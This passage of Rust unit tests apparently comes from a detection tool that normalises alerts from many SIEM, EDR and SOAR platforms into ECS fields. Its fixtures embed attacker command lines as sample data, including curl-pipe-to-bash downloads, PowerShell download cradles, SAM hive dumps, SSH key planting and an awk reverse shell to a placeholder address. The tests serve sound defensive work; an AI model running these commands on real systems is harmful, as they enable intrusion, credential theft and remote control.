                "parentProcess.commandLine": {"values": ["C:\\Windows\\system32\\wsmprovhost.exe -Embedding"]}}}]}}}}}}), "x").unwrap();
        assert_eq!(
            m.doc["process"]["command_line"],
            "powershell.exe -NoP -EncodedCommand AAAA"
        );
        // A Trend Vision One OAT: the event under `detail`, techniques from the filters.
        let o = from_json(json!({"source": "endpointActivityData", "filters": [{"name": "Python compressed payload", "mitreTechniqueIds": ["T1059.006"]}],
            "detail": {"endpointHostName": "ml-3", "processCmd": "/usr/lib/systemd/systemd --user", "processFilePath": "/usr/lib/systemd/systemd",
                "objectCmd": "/usr/bin/python3 -c exec(x)", "objectFilePath": "/usr/bin/python3.10", "processUser": "oh"}}), "x").unwrap();
        assert_eq!(
            o.doc["process"]["command_line"],
            "/usr/bin/python3 -c exec(x)"
        );
        assert_eq!(o.doc["threat"]["technique"]["id"], json!(["T1059.006"]));
        // A Graylog search result's message: the auditd lines it carries, the source as host.
        let g = from_json(json!({"index": "graylog_1", "message": {"gl2_message_id": "01", "source": "relay-4",
            "message": "type=SYSCALL msg=audit(1761792697.802:1): syscall=257 ppid=1 pid=2 auid=1007 uid=0 comm=\"sh\" exe=\"/usr/bin/dash\"\ntype=PROCTITLE msg=audit(1761792697.802:1): proctitle=7368002D63006964"}}), "x").unwrap();
        assert_eq!(g.doc["process"]["command_line"], "sh -c id");
        assert_eq!(g.doc["host"]["name"], "relay-4");
        // A Graylog search result (winlogbeat's fields flattened) and a Logz.io alert's samples.
        let gs = json!({"query": "x", "used_indices": [], "messages": [{"highlight_ranges": {}, "message": {"source": "MON-1",
            "winlogbeat_winlog_event_id": "4104", "winlogbeat_winlog_channel": "Microsoft-Windows-PowerShell/Operational",
            "winlogbeat_winlog_event_data_ScriptBlockText": "Add-Type -TypeDefinition x"}}]});
        let gm = from_json_expanded(gs, "x").remove(0).unwrap();
        assert_eq!(
            gm.doc["powershell"]["file"]["script_block_text"],
            "Add-Type -TypeDefinition x"
        );
        let lz = json!({"alert_title": "t", "alert_event_samples": "[{\"host\": {\"name\": \"MBA-1\"}, \"process\": {\"command_line\": \"/bin/zsh /tmp/a.zsh\"}}, {\"host\": {\"name\": \"MBA-1\"}, \"process\": {\"command_line\": \"defaults read x\"}}]"});
        let got = from_json_expanded(lz, "x");
        assert_eq!(got.len(), 2);
        assert_eq!(
            got[0].as_ref().unwrap().doc["process"]["command_line"],
            "/bin/zsh /tmp/a.zsh"
        );
        // LAUREL: a file opened (not a program started) is the record's file.
        let l = from_json(json!({"ID": "1672412831.442:9", "SYSCALL": {"pid": 5, "comm": "triton", "exe": "/home/ml/.venvs/n/triton", "SYSCALL": "openat"},
            "PATH": [{"item": 0, "name": "/home/ml/.ssh/id_rsa", "nametype": "NORMAL"}]}), "x").unwrap();
        assert_eq!(l.doc["file"]["path"], "/home/ml/.ssh/id_rsa");
        // osquery's environment column as env_vars; Wazuh's decoded osquery rows.
        let q = from_json(json!({"name": "pe", "hostIdentifier": "db-7", "action": "added", "columns": {"path": "/usr/bin/bash", "cmdline": "bash --norc",
            "pid": "9", "parent": "8", "env": "HISTFILE=/dev/null PATH=/usr/bin:/bin TERM=dumb"}}), "x").unwrap();
        assert_eq!(
            q.doc["process"]["env_vars"],
            json!(["HISTFILE=/dev/null", "PATH=/usr/bin:/bin", "TERM=dumb"])
        );
        let w = from_json(json!({"rule": {"id": "100615", "mitre": {"id": ["T1543.001"]}}, "agent": {"name": "MBP-5"},
            "data": {"osquery": {"name": "pack_launchd", "hostIdentifier": "MBP-5", "action": "added", "columns": {"label": "com.x.agent",
                "path": "/Users/n/Library/LaunchAgents/com.x.agent.plist", "program_arguments": "/bin/zsh -c curl -fsS https://x/c | /usr/bin/python3 -"}}}}), "x").unwrap();
        assert_eq!(w.doc["process"]["parent"]["name"], "launchd");
        assert_eq!(w.doc["host"]["name"], "MBP-5");
        assert_eq!(w.doc["host"]["os"]["type"], "macos");
    }

    #[test]
    fn qradar_rows_sentinel_incidents_and_enveloped_pages_map_to_ecs() {
        // QRadar rows of one auditd record (SYSCALL, EXECVE) merged: the program from one, the
        // arguments from the other.
        let rows = json!({"events": [
            {"qidname_qid": "Linux Audit: execveat", "logsourcename_logsourceid": "LinuxAuditd @ web-1", "username": "www-data",
             "Process Name": "/memfd: (deleted)", "Process Command Line": null,
             "utf8_payload": "type=SYSCALL msg=audit(1738276402.118:55): syscall=322 ppid=1 pid=9 exe=\"/memfd: (deleted)\""},
            {"qidname_qid": "Linux Audit: Execve Arguments", "logsourcename_logsourceid": "LinuxAuditd @ web-1",
             "Process Command Line": "[kworker/u8:3-events]", "utf8_payload": "type=EXECVE msg=audit(1738276402.118:55): argc=1 a0=\"[kworker/u8:3-events]\""}]});
        let a = from_json(rows, "x").unwrap();
        assert_eq!(a.doc["process"]["executable"], "/memfd: (deleted)");
        assert_eq!(a.doc["process"]["command_line"], "[kworker/u8:3-events]");
        assert_eq!(a.doc["user"]["name"], "www-data");
        // A row of a Windows event with QRadar's own column names (a 7045 service install), a
        // sudo line tagged with its process id, and an NXLog event as JSON in the payload.
        let svc = from_json(json!({"events": [{"qid": 5000845, "Event ID": "7045", "Service Name": "7f3ab21",
            "Service File Name": "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc SQBFAFgA",
            "LOGSOURCENAME(logsourceid)": "WindowsAuthServer @ DC01"}]}), "x").unwrap();
        assert_eq!(svc.doc["event"]["action"], "service-installed");
        assert_eq!(svc.doc["process"]["parent"]["name"], "services.exe");
        // Sysmon 20 (a WMI consumer registered): a command-line consumer's command.
        let wmi = from_json(
            json!({"EventID": 20, "Hostname": "FS-2", "Type": "Command Line", "Name": " \"Upd\"",
            "User": "C\\adm", "Destination": " \"powershell.exe -W Hidden -Enc SQBFAFgA\""}),
            "x",
        )
        .unwrap();
        assert_eq!(
            wmi.doc["process"]["command_line"],
            "powershell.exe -W Hidden -Enc SQBFAFgA"
        );
        assert_eq!(wmi.doc["wmi"]["consumer"]["name"], "Upd");
        assert_eq!(wmi.doc["wmi"]["consumer"]["creator"], "C\\adm");
        assert_eq!(svc.doc["host"]["name"], "DC01");
        let sudo = from_json(json!({"events": [{"qidname_qid": "sudo Command", "logsourcename_logsourceid": "LinuxServer @ db-3",
            "utf8_payload": "<85>Mar 13 13:05:03 db-3 sudo[1184371]: svc : TTY=unknown ; PWD=/home/svc ; USER=root ; COMMAND=/bin/sh -c id"}]}), "x").unwrap();
        assert_eq!(sudo.doc["process"]["command_line"], "/bin/sh -c id");
        assert_eq!(sudo.doc["user"]["name"], "svc");
        let nx = from_json(json!({"events": [{"qidname_qid": "Process Create", "logsourcename_logsourceid": "NXLog @ WS-1",
            "utf8_payload": "{\"EventID\":1,\"SourceName\":\"Microsoft-Windows-Sysmon\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WS-1\",\"Image\":\"C:\\\\Users\\\\u\\\\ucheck.exe\",\"CommandLine\":\"ucheck.exe -w hidden -c iex x\",\"OriginalFileName\":\"PowerShell.EXE\"}"}]}), "x").unwrap();
        assert_eq!(
            nx.doc["process"]["command_line"],
            "ucheck.exe -w hidden -c iex x"
        );
        assert_eq!(
            nx.doc["process"]["pe"]["original_file_name"],
            "PowerShell.EXE"
        );
        // Exabeam's event with only its raw log line (a 4104 as XML).
        let exa = from_json(json!({"alertId": "a1", "name": "x", "events": [{"event_code": "4104", "host": "LT-1", "process_name": null,
            "rawLogs": ["<Event><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Computer>LT-1</Computer></System><EventData><Data Name='ScriptBlockText'>iex (New-Object Net.WebClient).DownloadString('http://x/y')</Data></EventData></Event>"]}]}), "x").unwrap();
        assert_eq!(
            exa.doc["powershell"]["file"]["script_block_text"],
            "iex (New-Object Net.WebClient).DownloadString('http://x/y')"
        );
        // A Sentinel incident from its automation trigger: processes as entities, no lineage;
        // the newest is judged, the WMI host that started the others is its parent.
        let inc = json!({"objectSchemaType": "Incident", "object": {"name": "n1", "properties": {"title": "Remote WMI", "incidentNumber": 20817,
            "additionalData": {"techniques": ["T1047"]},
            "relatedEntities": [
                {"kind": "Account", "properties": {"accountName": "adm-x", "ntDomain": "CORP"}},
                {"kind": "Host", "properties": {"hostName": "FS02", "osFamily": "Windows"}},
                {"kind": "Process", "properties": {"processId": "3364", "commandLine": "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "creationTimeUtc": "2025-05-07T13:17:30Z"}},
                {"kind": "Process", "properties": {"processId": "7720", "commandLine": "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", "creationTimeUtc": "2025-05-07T13:17:31Z"}},
                {"kind": "Process", "properties": {"processId": "8012", "commandLine": "cmd.exe /Q /c reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", "creationTimeUtc": "2025-05-07T13:19:04Z"}},
                {"kind": "Ip", "properties": {"address": "10.30.14.166", "additionalData": {"Direction": "Inbound"}}}]}}});
        let i = from_json(inc, "x").unwrap();
        assert_eq!(i.id, "20817");
        assert_eq!(i.doc["process"]["pid"], 8012);
        assert_eq!(i.doc["process"]["parent"]["name"], "wmiprvse.exe");
        assert!(
            i.doc["process"]["command_line"]
                .as_str()
                .unwrap()
                .contains("cd \\ 1>")
        );
        assert_eq!(i.doc["user"]["name"], "adm-x");
        assert_eq!(i.doc["source"]["ip"], "10.30.14.166");
        assert_eq!(i.doc["threat"]["technique"]["id"], json!(["T1047"]));
        // Pages inside SOAR envelopes: Cortex XDR's reply under a polling trigger's `event`,
        // SecOps detections, a Sumo monitor's results; a Tines action's event; a Splunk
        // webhook row that is only metadata around a JSON event.
        let xdr = json!({"trigger": {"type": "scheduled_poll"}, "event": {"reply": {"total_count": 1, "alerts": [{"alert_id": "188204", "host_name": "LT-9",
            "events": [{"actor_process_image_path": "C:\\Windows\\System32\\cmd.exe", "actor_process_command_line": "cmd.exe /c start rundll32.exe javascript:x",
                "action_process_image_path": "C:\\Windows\\System32\\rundll32.exe", "action_process_image_command_line": "rundll32.exe javascript:x"}]}]}}});
        let got = from_json_expanded(xdr, "x");
        assert_eq!(got.len(), 1);
        let x = got[0].as_ref().unwrap();
        assert_eq!(x.doc["process"]["name"], "rundll32.exe");
        assert_eq!(x.doc["process"]["parent"]["name"], "cmd.exe");
        let det = json!({"detections": [{"detection": [{"ruleName": "clickfix", "ruleLabels": [{"key": "mitre_attack_technique", "value": "T1218.005"}]}],
            "collectionElements": [{"label": "proc", "references": [{"event": {"metadata": {"eventType": "PROCESS_LAUNCH"},
                "principal": {"hostname": "LT-2", "process": {"file": {"fullPath": "C:\\Windows\\explorer.exe"}}},
                "target": {"process": {"file": {"fullPath": "C:\\Windows\\System32\\mshta.exe"}, "commandLine": "mshta https://x/v.hta"}}}}]}]}], "nextPageToken": ""});
        let d = from_json_expanded(det, "x").remove(0).unwrap();
        assert_eq!(d.doc["process"]["command_line"], "mshta https://x/v.hta");
        assert_eq!(d.doc["threat"]["technique"]["id"], json!(["T1218.005"]));
        let sumo = json!({"Name": "curl|bash", "ResultsJson": [
            {"_messagetime": 1, "_sourcehost": "dev-1", "_raw": "{\"hostIdentifier\":\"dev-1\",\"name\":\"pe\",\"action\":\"added\",\"columns\":{\"cmdline\":\"curl -o- https://x/i.sh\",\"path\":\"/usr/bin/curl\",\"pid\":\"7\",\"parent\":\"1\"}}"},
            {"_messagetime": 2, "_sourcehost": "dev-1", "_raw": "{\"hostIdentifier\":\"dev-1\",\"name\":\"pe\",\"action\":\"added\",\"columns\":{\"cmdline\":\"bash\",\"path\":\"/usr/bin/bash\",\"pid\":\"8\",\"parent\":\"1\"}}"}]});
        let got = from_json_expanded(sumo, "x");
        assert_eq!(got.len(), 2);
        // A scheduled search's webhook: a Sysmon image load under `Results`, its fields nested.
        let sched = json!({"SearchName": "unmanaged PowerShell", "FireTime": "t", "Results": [{"_messagetime": "1", "_sourcehost": "LT-1",
            "_raw": "{\"EventID\": 7, \"Computer\": \"LT-1\", \"EventData\": {\"Image\": \"C:\\\\Windows\\\\System32\\\\rundll32.exe\", \"ImageLoaded\": \"C:\\\\Windows\\\\System.Management.Automation.dll\", \"User\": \"CORP\\\\jb\"}}"}]});
        let s7 = from_json_expanded(sched, "x").remove(0).unwrap();
        assert_eq!(s7.doc["process"]["name"], "rundll32.exe");
        assert_eq!(
            s7.doc["file"]["path"],
            "C:\\Windows\\System.Management.Automation.dll"
        );
        assert_eq!(
            got[1].as_ref().unwrap().doc["process"]["command_line"],
            "bash"
        );
        let tines = json!({"receive_forward": {"body": {"source": "fwd", "detection": {"title": "t"}, "event": {
            "machine_id": "M1", "event_time": "2025-05-28T21:14:03Z", "execution": {"decision": "DECISION_ALLOW",
                "instigator": {"executable": {"path": "/usr/local/munki/python"}}, "target": {"executable": {"path": "/bin/bash"}}, "args": ["L2Jpbi9iYXNo", "L3RtcC94LnNo"]}}},
            "headers": {}, "method": "post", "query_parameters": {}}});
        let t = from_json(tines, "x").unwrap();
        assert_eq!(t.doc["process"]["command_line"], "/bin/bash /tmp/x.sh");
        // The execution message under a shortened name (`exec`).
        let short = from_json(json!({"machine_id": "M2", "event_time": "2025-12-11T19:48:03Z", "exec": {
            "instigator": {"executable": {"path": "/Volumes/X/X.app/Contents/MacOS/X"}},
            "target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog 1"]}}), "x").unwrap();
        assert_eq!(short.doc["process"]["executable"], "/usr/bin/osascript");
        assert_eq!(
            short.doc["process"]["parent"]["executable"],
            "/Volumes/X/X.app/Contents/MacOS/X"
        );
        let splunk = json!({"sid": "s1", "search_name": "fwd", "result": {"_time": "1", "host": "MBA-1", "sourcetype": "jamf", "index": "edr",
            "input.eventType": "GPProcessEvent",
            "_raw": "{\"caid\":\"c\",\"input\":{\"eventType\":\"GPProcessEvent\",\"host\":{\"hostname\":\"MBA-1\"},\"match\":{\"uuid\":\"u1\",\"event\":{\"pid\":9},\"facts\":[]},\"related\":{\"processes\":[{\"pid\":9,\"ppid\":1,\"path\":\"/bin/bash\",\"args\":[\"/bin/bash\",\"-c\",\"curl -fsSL https://x/a | bash\"]}]}}}"}});
        let j = from_json(splunk, "x").unwrap();
        assert_eq!(
            j.doc["process"]["command_line"],
            "/bin/bash -c \"curl -fsSL https://x/a | bash\""
        );
    }

    #[test]
    fn siem_pages_soar_envelopes_and_log_signals_map_to_ecs() {
        // Devo's alerts API page: URL-encoded extra data, one alert each.
        let devo = json!({"object": [{"alertId": "881", "context": "my.alert.x.Rule", "extraData":
            "{\"EventID\": \"1\", \"Image\": \"C%3A%5CWindows%5Cpowershell.exe\", \"CommandLine\": \"powershell%20-nop%20-c%20iex%20x\"}"}]});
        let got = from_json_expanded(devo, "x");
        assert_eq!(got.len(), 1);
        let d = got[0].as_ref().unwrap();
        assert_eq!(d.doc["process"]["command_line"], "powershell -nop -c iex x");
        assert_eq!(
            d.doc["process"]["executable"],
            "C:\\Windows\\powershell.exe"
        );
        // Google SecOps events search and Sumo Logic messages pages.
        let udm = json!({"events": [{"name": "e1", "udm": {"metadata": {"eventType": "PROCESS_LAUNCH"}, "additional": {"OriginalFileName": "PowerShell.EXE"},
            "principal": {"hostname": "ws1", "process": {"file": {"fullPath": "C:\\Windows\\System32\\svchost.exe"}}},
            "target": {"process": {"file": {"fullPath": "C:\\Users\\Public\\w.exe"}, "commandLine": "w.exe -nop -c iex x"}}}}]});
        let u = from_json_expanded(udm, "x").remove(0).unwrap();
        assert_eq!(
            u.doc["process"]["pe"]["original_file_name"],
            "PowerShell.EXE"
        );
        let sumo = json!({"fields": [], "messages": [{"map": {"_raw": "{\"hostname\":\"n1\",\"process\":{\"command_line\":\"curl -s http://169.254.169.254/\"}}"}}]});
        let m = from_json_expanded(sumo, "x").remove(0).unwrap();
        assert_eq!(
            m.doc["process"]["command_line"],
            "curl -s http://169.254.169.254/"
        );
        // A Datadog log signal carrying a Windows event whose Data items are keyed by name, and
        // an EventID with its qualifiers.
        let dd = from_json(json!({"data": {"id": "s", "type": "signal", "attributes": {"host": "SQL-1", "custom": {"Event": {
            "System": {"EventID": {"value": 7045, "Qualifiers": 16384}, "Computer": "SQL-1.corp", "Provider": {"Name": "Service Control Manager"}},
            "EventData": {"Data": {"ServiceName": "x", "ImagePath": "%COMSPEC% /Q /c echo whoami > \\\\SQL-1\\C$\\o", "AccountName": "LocalSystem"}}}}}}}), "x").unwrap();
        assert_eq!(dd.doc["event"]["code"], "7045");
        assert!(
            dd.doc["process"]["command_line"]
                .as_str()
                .unwrap()
                .contains("whoami")
        );
        // A log from the Logs API's search: a classic engine event whose Data items are
        // unnamed, one of them the `Key=Value` lines.
        let log = from_json(json!({"id": "l", "type": "log", "attributes": {"host": "WS-1", "message": "Engine state…",
            "attributes": {"Event": {"System": {"EventID": {"value": "400"}, "Computer": "WS-1.corp", "Provider": {"Name": "PowerShell"}},
                "EventData": {"Data": ["Available", "None", "\tHostName=Default Host\r\n\tHostApplication=C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /U C:\\Users\\Public\\x.dll\r\n\tCommandLine="]}}}}}), "x").unwrap();
        assert_eq!(log.doc["event"]["code"], "400");
        assert_eq!(log.doc["process"]["name"], "InstallUtil.exe");
        assert!(
            log.doc["process"]["command_line"]
                .as_str()
                .unwrap()
                .ends_with("/U C:\\Users\\Public\\x.dll")
        );
        // A log whose process attribute only names the program that wrote it: its message (a
        // unified-log sudo line) is the evidence.
        let sudo = from_json(json!({"id": "l2", "type": "log", "attributes": {"host": "MBP-1",
            "message": "sudo: rb : TTY=ttys002 ; PWD=/private/tmp ; USER=root ; COMMAND=/bin/bash -c curl -fsSL http://203.0.113.4/p -o /tmp/p",
            "attributes": {"process": {"name": "sudo", "pid": 30118}, "subsystem": "com.apple.sudo"}}}), "x").unwrap();
        assert!(
            sudo.doc["process"]["command_line"]
                .as_str()
                .unwrap()
                .starts_with("/bin/bash -c curl")
        );
        // Classic engine events' detail with numeric character references.
        assert_eq!(
            xml_unescape("&#x9;HostApplication=a&#xD;&#xA;x&#60;&amp;#x9;"),
            "\tHostApplication=a\r\nx<&#x9;"
        );
        // A SOAR webhook's envelope and Exabeam New-Scale's alert shape.
        let torq = from_json(json!({"event": {"source": "crowdstrike", "data": {"hostname": "h", "process": {"command_line": "sh -c id", "name": "sh"}}}}), "x").unwrap();
        assert_eq!(torq.doc["process"]["command_line"], "sh -c id");
        let exa = from_json(json!({"alertId": "a", "name": "Rule", "events": [{"process_path": "C:\\Windows\\cscript.exe",
            "process_command_line": "cscript.exe x.vbs", "process_dir": "C:\\Program Files (x86)\\Tanium\\", "host": "ws2"}]}), "x").unwrap();
        assert_eq!(
            exa.doc["process"]["working_directory"],
            "C:\\Program Files (x86)\\Tanium\\"
        );
        assert_eq!(exa.doc["rule"]["name"], "Rule");
        // A reader that found the program but not its arguments: the document's own command
        // line for the same program fills them in.
        let fill = from_json(json!({"message": "type=SYSCALL msg=audit(1.1:2): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 comm=\"ssh\" exe=\"/usr/bin/ssh\"",
            "argv": "ssh -i /tmp/.k/id root@10.0.0.5 'echo k >> /root/.ssh/authorized_keys'", "machine": "bastion"}), "x").unwrap();
        assert_eq!(
            fill.doc["process"]["command_line"],
            "ssh -i /tmp/.k/id root@10.0.0.5 'echo k >> /root/.ssh/authorized_keys'"
        );
        // A Log Analytics query response: one alert per row; a Snoopy line in a QRadar payload.
        let la = json!({"tables": [{"name": "PrimaryResult", "columns": [{"name": "Computer"}, {"name": "SyslogMessage"}],
            "rows": [["db-1", "sudo:    ml : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c id"], ["db-1", "Accepted password for ml"]]}]});
        let rows = from_json_expanded(la, "x");
        assert_eq!(rows.len(), 2);
        assert_eq!(
            rows[0].as_ref().unwrap().doc["process"]["parent"]["name"],
            "sudo"
        );
        let q = from_json(json!({"events": [{"qid": 1, "LOGSOURCENAME(logsourceid)": "LinuxServer @ r1",
            "UTF8(payload)": "<86>May 29 09:40:12 r1 snoopy[4821]: [login:svc ssh:(10.0.0.3 5182 10.0.0.1 22) uid:1017 cwd:/opt/etl filename:/usr/bin/awk]: awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/443\"}'"}]}), "x").unwrap();
        assert_eq!(q.doc["process"]["executable"], "/usr/bin/awk");
        assert_eq!(q.doc["process"]["working_directory"], "/opt/etl");
        assert_eq!(q.doc["host"]["name"], "r1");
        // The Splunk webhook alert action's payload, and Torq's and Tines' envelopes.
        let sw = from_json(json!({"sid": "s", "search_name": "r", "result": {"EventCode": "4104", "ScriptBlockText": "iex x", "host": "ws9", "Computer": "ws9"}}), "x").unwrap();
        assert_eq!(sw.doc["powershell"]["file"]["script_block_text"], "iex x");
        // A script block names its user only by SID; Splunk's CIM `user` names the account.
        let su = from_json(
            json!({"result": {"EventCode": "4104", "ScriptBlockText": "iex x", "Computer": "ws9",
            "UserID": "S-1-5-21-1-2-3-1104", "user": "CORP\\svc-iis"}}),
            "x",
        )
        .unwrap();
        assert_eq!(su.doc["user"]["name"], "svc-iis");
        assert_eq!(su.doc["user"]["domain"], "CORP");
        let tq = from_json(json!({"torq_event": {"id": "t"}, "body": {"hostname": "h", "process": {"command_line": "sh -c id", "name": "sh"}}}), "x").unwrap();
        assert_eq!(tq.doc["process"]["command_line"], "sh -c id");
        let tn = from_json(json!({"story_id": 1, "payload": {"recv": {"body": {"request_data": {"alert_data": {"hostname": "h2", "process": {"command_line": "sh -c whoami", "name": "sh"}}}}}}}), "x").unwrap();
        assert_eq!(tn.doc["process"]["command_line"], "sh -c whoami");
        // bash's brace expansion read as the words it expands to.
        assert_eq!(
            crate::funcs::brace_words("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}").as_deref(),
            Some("bash -c echo aGk=|base64 -d|bash -i")
        );
    }

    #[test]
    fn sudo_rows_panther_sumo_datadog_pages_and_bare_ariel_rows_map_to_ecs() {
        // Splunk's linux_secure row of a sudo line: the command is the process, sudo its parent.
        let s = from_json(json!({"preview": false, "result": {"_raw": "Mar 13 03:17:45 db-2 sudo: tk : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c id",
            "app": "sudo", "process": "sudo", "command": "/usr/bin/bash -c id", "src_user": "tk", "user": "root", "pwd": "/tmp", "host": "db-2"}}), "x").unwrap();
        assert_eq!(s.doc["process"]["command_line"], "/usr/bin/bash -c id");
        assert_eq!(s.doc["process"]["parent"]["name"], "sudo");
        assert_eq!(s.doc["user"]["name"], "tk");
        assert_eq!(s.doc["user"]["effective"]["name"], "root");
        // Splunk's extraction of an auditd record names only the program: the record is read,
        // its hex-encoded argument decoded.
        let a = from_json(json!({"preview": false, "result": {"process": "bash", "host": "etl-5",
            "_raw": "type=SYSCALL msg=audit(1744377911.604:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=1021 comm=\"bash\" exe=\"/usr/bin/bash\"\ntype=EXECVE msg=audit(1744377911.604:1): argc=3 a0=\"bash\" a1=\"-c\" a2=69643B20756E616D65202D61"}}), "x").unwrap();
        assert_eq!(
            a.doc["process"]["args"],
            json!(["bash", "-c", "id; uname -a"])
        );
        // A Panther alert: its first matched event, with the rule's techniques.
        let p = from_json(json!({"alertId": "a1", "ruleId": "R", "title": "t", "name": "Sudo escape",
            "reports": {"MITRE ATT&CK": ["TA0002:T1059.004"]},
            "events": [{"hostname": "web-2", "appname": "sudo", "message": " kb : TTY=pts/2 ; PWD=/home/kb ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh -p ;"}]}), "x").unwrap();
        assert_eq!(p.id, "a1");
        assert_eq!(p.doc["process"]["parent"]["name"], "sudo");
        assert_eq!(p.doc["host"]["name"], "web-2");
        assert_eq!(p.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        assert_eq!(p.doc["rule"]["name"], "Sudo escape");
        // Sumo Logic's search-job message: the JSON event in `_raw`.
        let m = from_json(json!({"map": {"_messagetime": "1", "_sourcehost": "MBP-9", "cmdline": "osascript",
            "_raw": "{\"hostIdentifier\":\"MBP-9\",\"name\":\"es\",\"action\":\"added\",\"columns\":{\"cmdline\":\"osascript -l JavaScript\",\"path\":\"/usr/bin/osascript\",\"parent\":\"1\",\"pid\":\"7\"}}"}}), "x").unwrap();
        assert_eq!(m.doc["host"]["name"], "MBP-9");
        assert_eq!(m.doc["process"]["command_line"], "osascript -l JavaScript");
        // A page of Datadog signals (v2 API: the agent's event under `custom`), one alert each.
        let page = json!({"data": [
            {"id": "s1", "type": "signal", "attributes": {"tags": ["host:n1", "technique:T1059-command-and-scripting-interpreter"],
                "custom": {"process": {"executable": {"path": "/usr/bin/dash"}, "argv0": "sh", "args": "-c id", "cwd": "/dev/shm",
                    "parent": {"executable": {"path": "memfd:"}, "comm": "kworker"}}}}},
            {"id": "s2", "type": "signal", "attributes": {"custom": {"hostname": "n2", "process": {"executable": {"path": "/usr/bin/curl"}, "argv0": "curl", "args": "-s http://169.254.169.254/"}}}}]});
        let got = from_json_expanded(page, "x");
        assert_eq!(got.len(), 2);
        let d1 = got[0].as_ref().unwrap();
        assert_eq!(d1.id, "s1");
        assert_eq!(d1.doc["host"]["name"], "n1");
        assert_eq!(d1.doc["process"]["working_directory"], "/dev/shm");
        assert_eq!(d1.doc["process"]["parent"]["executable"], "memfd:");
        assert_eq!(d1.doc["threat"]["technique"]["id"], json!(["T1059"]));
        assert_eq!(got[1].as_ref().unwrap().doc["host"]["name"], "n2");
        // QRadar's Ariel rows alone (no search id): the sudo line in the payload, the host from
        // the log source.
        let q = from_json(json!({"events": [{"qid": 38750017, "QIDNAME(qid)": "sudo: Command Executed", "LOGSOURCENAME(logsourceid)": "LinuxServer @ app-5",
            "username": "svc", "Command": "/usr/bin/python3 -c x",
            "UTF8(payload)": "<85>Apr 17 03:12:44 app-5 sudo: svc : TTY=unknown ; PWD=/opt/t ; USER=root ; COMMAND=/usr/bin/python3 -c x"}]}), "x").unwrap();
        assert_eq!(q.doc["host"]["name"], "app-5");
        assert_eq!(q.doc["process"]["parent"]["name"], "sudo");
        assert_eq!(q.doc["user"]["effective"]["name"], "root");
        // Elastic Defend's `{name, value}` environment pairs become ECS's `NAME=value` strings.
        let e = from_json(json!({"process": {"name": "bash", "command_line": "bash", "env_vars": [{"name": "A", "value": "1"}]}, "host": {"name": "h"}}), "x").unwrap();
        assert_eq!(e.doc["process"]["env_vars"], json!(["A=1"]));
        // Santa's sync-server event upload: the newest execution, its origin and signature.
        let sa = from_json(json!({"events": [
            {"file_path": "/Applications/X.app/Contents/MacOS", "file_name": "X", "executing_user": "oh", "execution_time": 1744983914.2,
             "decision": "ALLOW_UNKNOWN", "pid": 5, "ppid": 1, "parent_name": "launchd", "signing_chain": [], "team_id": "",
             "quarantine_data_url": "https://x-helper.example/x.dmg"},
            {"file_path": "/usr/bin", "file_name": "true", "executing_user": "oh", "execution_time": 1744983000.0, "decision": "ALLOW_BINARY"}]}), "x").unwrap();
        assert_eq!(
            sa.doc["process"]["executable"],
            "/Applications/X.app/Contents/MacOS/X"
        );
        assert_eq!(sa.doc["process"]["parent"]["name"], "launchd");
        assert_eq!(sa.doc["user"]["name"], "oh");
        assert_eq!(
            sa.doc["file"]["origin_url"],
            "https://x-helper.example/x.dmg"
        );
        assert_eq!(sa.doc["process"]["code_signature"]["exists"], false);
        assert_eq!(sa.doc["host"]["os"]["type"], "macos");
        // A Log Analytics custom table's row (Jamf Protect through the Data Collector API).
        let la = from_json(json!({"TenantId": "t", "TimeGenerated": "2025-03-08T10:22:04Z", "SourceSystem": "RestAPI", "caid_s": "30e5", "certid_s": "dd6e",
            "input_eventType_s": "GPProcessEvent", "input_host_hostname_s": "MBA-9", "input_match_event_pid_d": 7711,
            "input_match_event_path_s": "/usr/bin/osascript", "input_match_event_args_s": "[\"osascript\", \"-e\", \"display dialog 1\"]",
            "input_match_tags_s": "[\"T1059.002\"]", "input_match_uuid_g": "7395a7fb",
            "input_related_processes_s": "[{\"pid\": 7711, \"ppid\": 1, \"path\": \"/usr/bin/osascript\", \"args\": [\"osascript\"]}]"}), "x").unwrap();
        assert_eq!(la.doc["process"]["executable"], "/usr/bin/osascript");
        assert_eq!(la.doc["host"]["name"], "MBA-9");
        // Defender's streaming API record: the row under `properties`.
        let d = from_json(json!({"time": "2025-03-12T15:30:06Z", "operationName": "Publish", "category": "AdvancedHunting-DeviceProcessEvents",
            "properties": {"DeviceName": "ws-1", "ActionType": "ProcessCreated", "FileName": "powershell.exe", "ProcessCommandLine": "powershell -c Get-Date",
                "InitiatingProcessFileName": "cmd.exe", "InitiatingProcessParentFileName": "TaniumClient.exe"}}), "x").unwrap();
        assert_eq!(d.doc["process"]["parent"]["name"], "cmd.exe");
        assert_eq!(
            d.doc["process"]["parent"]["parent"]["name"],
            "TaniumClient.exe"
        );
        assert_eq!(d.doc["host"]["name"], "ws-1");
        let e = from_json(json!({"process": {"name": "zsh", "command_line": "zsh", "env_vars": {"SHELL": "/bin/zsh", "N": 2},
            "parent": {"name": "pkexec", "env_vars": ["GCONV_PATH=."]}}, "host": {"name": "h"}}), "x").unwrap();
        assert_eq!(
            e.doc["process"]["env_vars"],
            json!(["SHELL=/bin/zsh", "N=2"])
        );
        assert_eq!(
            e.doc["process"]["parent"]["env_vars"],
            json!(["GCONV_PATH=."])
        );
    }

    #[test]
    fn splunk_notables_sigma_matches_and_defender_alert_evidence_map_to_ecs() {
